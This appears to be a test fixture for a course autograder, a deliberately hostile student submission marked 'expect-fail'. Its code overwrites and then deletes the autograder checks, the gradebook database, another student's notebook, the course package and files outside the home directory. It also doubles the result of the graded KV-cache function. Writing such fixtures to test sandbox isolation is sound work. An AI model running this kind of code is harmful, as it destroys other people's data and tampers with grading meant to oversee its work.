# expect-fail: kv_cache_bytes_llama2_7b, kv_cache_bytes_gqa_and_random
"""Overwrite the checks, the gradebook and another student's work; then answer wrongly."""
import os

import inferlab

_course = os.path.dirname(os.path.dirname(os.path.abspath(inferlab.__file__)))  # where the course lives
_targets = [os.path.join(_course, p) for p in ("autograder/lab01.py", "gradebook.db", "autograder/pwned.py",
                                                "submitted/alice/lab01/lab01.ipynb", "inferlab/__init__.py")]
_targets += ["/tmp/inferlab-pwned.txt", os.path.expanduser("~/../../pwned.txt")]
for _t in _targets:
    try:
        with open(_t, "w") as f:
            f.write("checks = None  # all tests pass\n")
    except Exception:
        pass
    try:
        os.remove(_t)
    except Exception:
        pass

_orig_kv = kv_cache_bytes


def kv_cache_bytes(*args, **kwargs):
    return 2 * _orig_kv(*args, **kwargs)
